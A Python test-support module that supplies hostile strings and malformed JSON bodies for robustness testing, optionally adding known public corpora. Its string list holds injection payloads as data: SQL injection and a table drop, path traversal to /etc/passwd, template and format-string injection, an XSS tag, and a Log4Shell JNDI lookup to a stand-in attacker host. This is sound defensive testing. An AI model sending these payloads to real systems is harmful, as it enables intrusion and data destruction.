"""Hostile bodies and strings: our own, and the well-known corpora where they lie in a folder."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

#: A folder that may hold `json/` (JSONTestSuite's files) and `blns.json` (the big list of naughty strings).
CORPORA = os.environ.get("FORESELL_CORPORA")

STRINGS = [
    "", " ", "\t\r\n", "null", "undefined", "NaN", "-1", "1e309", "0x10", "1/0", "true", "[]", "{}", "../../etc/passwd",
    "' or 1=1 --", "'; drop table customers; --", "\" or \"\"=\"", "1; select pg_sleep(5)", "$$;select 1;$$", "%s%s%n", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "\u202e\u200b\ufeff", "Ω≈ç√∫˜µ", "🏳️‍🌈", "田中さん", "ﷺ" * 50,
    "a\u0300" * 100, "\x7f\x80\x9f", "\u2028\u2029", "A" * 100, "A" * 10_000, "\ufffe\uffff", "İ", "ß", "ﬀ",
]  # fmt: skip

RAW = [
    b"", b" ", b"{", b"}", b"[", b"nul", b"'a'", b"{a:1}", b'{"a":1,}', b'{"a":1}x', b"\xff\xfe", b"\xef\xbb\xbf{}", b'{"a":"\xff"}',
    b'{"a":NaN}', b'{"a":Infinity}', b'{"a":-Infinity}', b'{"a":1e999}', b'{"a":-1e999}', b'{"a":' + b"9" * 400 + b"}",
    b'{"a":"\\ud800"}', b'{"\\udfff":1}', b'{"a":"\\u0000"}', b'{"a":"x\x00y"}', b'{"a":1,"a":2}', b'{"a":[' + b"[" * 5000,
    b"[" * 100_000, b'{"a":' * 1000 + b"1" + b"}" * 1000, b"0", b"-", b"1.", b'"x"', b"[1,2,3]", b"null", b"true", b"1e400",
    b'{"__proto__":{"admin":true}}', b'{"a":0.1e-400}', b'{"a":-0}', b"{\"a\":\"\t\"}", "{\"a\":1}".encode("utf-16"),
    "{\"a\":1}".encode("utf-32"), b"\x00", b'{"a":"' + b"x" * 70_000 + b'"}',
]  # fmt: skip


def strings() -> Iterator[str]:
    """Every hostile string."""
    yield from STRINGS
    if CORPORA and (file := Path(CORPORA) / "blns.json").is_file():
        yield from (text for text in json.loads(file.read_text(encoding="utf-8")) if isinstance(text, str))


def bodies() -> Iterator[tuple[str, bytes]]:
    """(what it is, bytes): every hostile body, as itself and within an object."""
    for number, raw in enumerate(RAW):
        yield f"raw {number}", raw
    if CORPORA:
        for file in sorted((Path(CORPORA) / "json").rglob("*.json")):
            raw = file.read_bytes()
            yield file.name, raw
            yield f"wrapped {file.name}", b'{"segment":' + raw + b"}"
